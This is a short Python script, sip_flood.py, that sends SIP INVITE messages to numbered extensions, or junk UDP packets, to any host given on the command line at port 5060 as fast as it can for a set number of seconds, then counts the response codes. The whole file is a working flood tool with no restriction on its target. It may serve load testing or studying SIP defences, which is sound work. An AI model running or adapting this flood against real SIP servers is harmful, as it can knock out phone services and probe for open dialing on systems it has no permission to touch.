#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""sip_flood.py HOST SECONDS invite|junk: one address that sends as fast as it can; prints how many it sent and what came back."""
import json
import socket
import sys
import time

HOST, SECONDS, KIND = sys.argv[1], float(sys.argv[2]), sys.argv[3]


def main():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    s.bind(("", 5060))
    me = s.getsockname()[0]
    sent, answers = 0, {}
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        for _ in range(20):
            if KIND == "junk":
                data = b"\x01\x02 scanner " + str(sent).encode() + b"\xff" * 300
            else:
                data = (
                    f"INVITE sip:00{sent}@{HOST} SIP/2.0\r\nVia: SIP/2.0/UDP {me};branch=z9hG4bKf{sent}\r\nMax-Forwards: 70\r\n"
                    f"From: <sip:x@{me}>;tag=f{sent}\r\nTo: <sip:00{sent}@{HOST}>\r\nCall-ID: flood-{sent}\r\n"
                    "CSeq: 1 INVITE\r\nContent-Length: 0\r\n\r\n"
                ).encode()
            try:
                s.sendto(data, (HOST, 5060))
                sent += 1
            except OSError:
                pass
        try:
            while True:
                code = s.recv(65536).split(b" ")[1].decode()
                answers[code] = answers.get(code, 0) + 1
        except OSError:
            pass
    print(json.dumps({"sent": sent, "answers": answers}))


main()
